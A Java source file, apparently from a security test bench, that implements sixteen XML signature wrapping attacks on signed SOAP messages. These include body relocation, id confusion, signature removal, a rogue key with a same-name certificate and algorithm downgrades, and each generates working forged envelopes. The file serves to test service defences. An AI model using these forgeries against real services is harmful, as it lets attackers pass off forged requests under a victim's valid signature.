package cn.singlewindow.bench.agency;

import java.util.List;
import java.util.function.BiConsumer;
import org.w3c.dom.Attr;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.NamedNodeMap;
import org.w3c.dom.Node;

/**
 * The sixteen attacks on signed envelopes (PROMISES, after Somorovsky et al., USENIX Security 2012): each keeps a valid signature
 * over the genuine message, or seems to, and puts something else where the service looks.
 */
public enum Wrapping {
    /** The signed body goes into a wrapper in the header, a new body with another id takes its place. */
    BODY_TO_HEADER((document, forged) -> {
        Element body = body(document);
        forge(body, forged).setAttributeNS(Soap.WSU, "wsu:Id", "other");
        wrap(document, header(document), body);
    }),
    /** The same, with the same id twice. */
    SAME_ID((document, forged) -> {
        Element body = body(document);
        forge(body, forged);
        wrap(document, header(document), body);
    }),
    /** The signed body goes into the security header. */
    BODY_TO_SECURITY((document, forged) -> {
        Element body = body(document);
        forge(body, forged).setAttributeNS(Soap.WSU, "wsu:Id", "other");
        security(document).appendChild(body);
    }),
    /** The signed body goes into an object of the signature. */
    BODY_TO_OBJECT((document, forged) -> {
        Element body = body(document);
        forge(body, forged).setAttributeNS(Soap.WSU, "wsu:Id", "other");
        Element object = document.createElementNS(Soap.DS, "ds:Object");
        object.appendChild(body);
        signature(document).appendChild(object);
    }),
    /** Two bodies, the forged one first. */
    FORGED_FIRST((document, forged) -> {
        Element body = body(document);
        forge(body, forged).setAttributeNS(Soap.WSU, "wsu:Id", "other");
        document.getDocumentElement().appendChild(body);
    }),
    /** Two bodies, the forged one last. */
    FORGED_LAST((document, forged) -> {
        Element body = body(document);
        Element other = forge(body, forged);
        other.setAttributeNS(Soap.WSU, "wsu:Id", "other");
        document.getDocumentElement().insertBefore(body, other);
    }),
    /** The signed timestamp goes into a wrapper, a fresh one that nobody signed takes its place. */
    FRESH_TIMESTAMP((document, forged) -> {
        Element signed = first(document, Soap.WSU, "Timestamp");
        Element fresh = (Element) signed.cloneNode(true);
        fresh.setAttributeNS(Soap.WSU, "wsu:Id", "fresh");
        signed.getParentNode().replaceChild(fresh, signed);
        wrap(document, header(document), signed);
    }),
    /** The signed action goes into a wrapper, another one takes its place. */
    OTHER_ACTION((document, forged) -> {
        Element signed = first(document, Soap.WSA, "Action");
        Element other = (Element) signed.cloneNode(true);
        other.setAttributeNS(Soap.WSU, "wsu:Id", "other");
        signed.getParentNode().replaceChild(other, signed);
        wrap(document, header(document), signed);
    }),
    /** The signature goes into a second security header for another actor; the body is forged. */
    OTHER_ACTOR((document, forged) -> {
        Element security = security(document);
        Element second = (Element) security.cloneNode(false);
        second.setAttributeNS(document.getDocumentElement().getNamespaceURI(), "s:actor", "http://example.org/other");
        second.appendChild(signature(document));
        header(document).appendChild(second);
        forge(body(document), forged);
    }),
    /** Kinds of ids are mixed up: the forged body has the id as {@code Id}, {@code xml:id} and {@code ID}. */
    ID_CONFUSION((document, forged) -> {
        Element body = body(document);
        Element other = forge(body, forged);
        other.removeAttributeNS(Soap.WSU, "Id");
        other.setAttribute("Id", "body");
        other.setAttribute("ID", "body");
        other.setAttributeNS("http://www.w3.org/XML/1998/namespace", "xml:id", "body");
        wrap(document, header(document), body);
    }),
    /** A filter among the transforms takes the body out of what is signed; signed with it, so the value is right. */
    NARROWED((document, forged) -> forge(body(document), forged)),
    /** The signature is right and covers headers only. */
    HEADERS_ONLY((document, forged) -> forge(body(document), forged)),
    /** The signature is taken away. */
    NO_SIGNATURE((document, forged) -> signature(document).getParentNode().removeChild(signature(document))),
    /** Signed by a key of the attacker, whose certificate bears the same name. */
    SAME_NAME((document, forged) -> {}),
    /** Weaker algorithms: HMAC with the public key as its secret, SHA-1 in signature and digests. */
    DOWNGRADE((document, forged) -> {}),
    /** A comment, which no signature sees, splits a text; an inclusion takes the place of one. */
    SPLIT_TEXT((document, forged) -> {
        Element payload = (Element) body(document).getFirstChild();
        payload.appendChild(document.createComment("x"));
    });

    @SuppressWarnings("ImmutableEnumChecker") // a function without a state
    private final BiConsumer<Document, String> change;

    Wrapping(BiConsumer<Document, String> change) {
        this.change = change;
    }

    /**
     * The attack on a call.
     *
     * @param rogue somebody else's key with a certificate of the same name
     * @param genuine what the victim said, inside the element of the operation
     * @param forged what the attacker wants to be heard
     */
    public List<String> attack(
            SoapLine line, Identity victim, Identity rogue, String operation, String genuine, String forged) {
        SignedMessage.Way way = SignedMessage.Way.right();
        String more = "http://www.w3.org/2001/04/xmldsig-more#";
        String enc = "http://www.w3.org/2001/04/xmlenc#sha256";
        return switch (this) {
            case NARROWED -> List.of(wrapped(line, victim, operation, genuine, forged, way.narrowedTo("false()")));
            case HEADERS_ONLY ->
                List.of(wrapped(
                        line,
                        victim,
                        operation,
                        genuine,
                        forged,
                        way.over(List.of("time", "action", "id", "to", "reply"))));
            case SAME_NAME -> List.of(wrapped(line, rogue, operation, forged, forged, way));
            case DOWNGRADE ->
                List.of(
                        wrapped(line, victim, operation, forged, forged, way.by(more + "hmac-sha256", enc)),
                        wrapped(line, victim, operation, forged, forged, way.by(Soap.DS + "rsa-sha1", enc)),
                        wrapped(
                                line,
                                victim,
                                operation,
                                forged,
                                forged,
                                way.by(more + "rsa-sha256", Soap.DS + "sha1")));
            default -> List.of(wrapped(line, victim, operation, genuine, forged, way));
        };
    }

    private String wrapped(
            SoapLine line, Identity signer, String operation, String genuine, String forged, SignedMessage.Way way) {
        String text = SignedMessage.of(
                        line.soap(), signer, line.address(), line.action(operation), line.body(operation, genuine), way)
                .text();
        Document document = SignedMessage.parse(text);
        change.accept(document, line.body(operation, forged));
        return SignedMessage.write(document);
    }

    private static Element forge(Element body, String forged) {
        Document document = body.getOwnerDocument();
        Element other = document.createElementNS(body.getNamespaceURI(), body.getNodeName());
        NamedNodeMap all = body.getAttributes();
        for (int i = 0; i < all.getLength(); i++) {
            other.setAttributeNodeNS((Attr) all.item(i).cloneNode(true));
        }
        other.appendChild(document.importNode(SignedMessage.parse(forged).getDocumentElement(), true));
        body.getParentNode().replaceChild(other, body);
        return other;
    }

    private static void wrap(Document document, Element into, Node signed) {
        Element wrapper = document.createElementNS("urn:wrapper", "w:Wrapper");
        wrapper.appendChild(signed);
        into.appendChild(wrapper);
    }

    private static Element header(Document document) {
        return VerifiedAnswer.elements(document.getDocumentElement()).get(0);
    }

    private static Element body(Document document) {
        return VerifiedAnswer.elements(document.getDocumentElement()).get(1);
    }

    private static Element security(Document document) {
        return first(document, Soap.WSSE, "Security");
    }

    private static Element signature(Document document) {
        return first(document, Soap.DS, "Signature");
    }

    private static Element first(Document document, String namespace, String name) {
        return (Element) document.getElementsByTagNameNS(namespace, name).item(0);
    }
}
